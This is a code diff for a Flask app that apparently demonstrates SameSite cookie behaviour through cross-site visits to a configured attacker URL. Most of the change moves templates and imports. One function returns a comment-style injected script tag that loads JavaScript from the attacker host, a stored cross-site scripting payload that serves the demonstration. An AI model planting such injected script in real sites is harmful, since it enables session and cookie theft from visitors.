@@ -10,11 +10,12 @@ from werkzeug.wrappers import Response
 
 from flask_service.security_headers import content_security_policy
 
+from ..current import config
 from . import cookies
-from .current import config, notebook_asked_for, notebooks
+from .catalogue import PLACES
+from .current import notebook_asked_for, notebooks
 from .experiments import EXPERIMENTS, MEASURED, measured, rows, shown, tone
 from .notebooks import Notebook
-from .places import PLACES
 
 STEPS = ("hole", "strict", "hold", "tab", "opened", "again")
 LOOKS = ("kept", "used", "reload", "tab", "opened", "again")  # seen by a request of the site itself
@@ -41,7 +42,7 @@ def init_app(app: Flask) -> None:
 @blueprint.get("/")
 def front_page() -> str:
     """Explain the question, let the visitor choose a place, and show what was measured."""
-    return render_template("front.html", notebook=request.args.get("notebook", ""))
+    return render_template("places/front.html", notebook=request.args.get("notebook", ""))
 
 
 @blueprint.post("/begin")
@@ -70,7 +71,7 @@ def app_page() -> Response:
         step, f"{config().attacker_url}/visit?notebook={notebook.id}"
     )
     page = render_template(
-        "app.html",
+        "places/app.html",
         step="signed-out" if step == "hold" and run.signed_out else step,
         notebook=notebook,
         place=run.place,
@@ -127,7 +128,7 @@ def act(way: str) -> Response:
         return redirect(f"{config().attacker_url}/visit?notebook={notebook.id}&then=link", 303)
     if way == "link":
         # A page, and no redirect: a Strict cookie would not come along one that began elsewhere.
-        return response_of(render_template("landing.html", next=_app(notebook, "hold")))
+        return response_of(render_template("places/landing.html", next=_app(notebook, "hold")))
     return Response(status=204)
 
 
@@ -146,7 +147,7 @@ def sign_out() -> Response:
 @blueprint.get("/signed-out")
 def signed_out() -> str:
     """Say that the visitor is signed out, and go back, as the next user of the machine would."""
-    return render_template("signed_out.html", notebook=notebook_asked_for())
+    return render_template("places/signed_out.html", notebook=notebook_asked_for())
 
 
 @blueprint.get("/results")
@@ -155,7 +156,7 @@ def results() -> str:
     notebook = notebook_asked_for()
     runs = reversed(notebook.runs.values())
     tables = [(run.place, rows(run.place.name, run.seen)) for run in runs]
-    return render_template("results.html", notebook=notebook, tables=tables)
+    return render_template("places/results.html", notebook=notebook, tables=tables)
 
 
 @blueprint.after_request
@@ -176,4 +177,4 @@ def _app(notebook: Notebook, step: str, **more: str) -> str:
 
 
 def _comment() -> str:
-    return f'Nice page! <script src="{config().attacker_url}/static/injected.js"></script>'
+    return f'Nice page! <script src="{config().attacker_url}/static/places/injected.js"></script>'
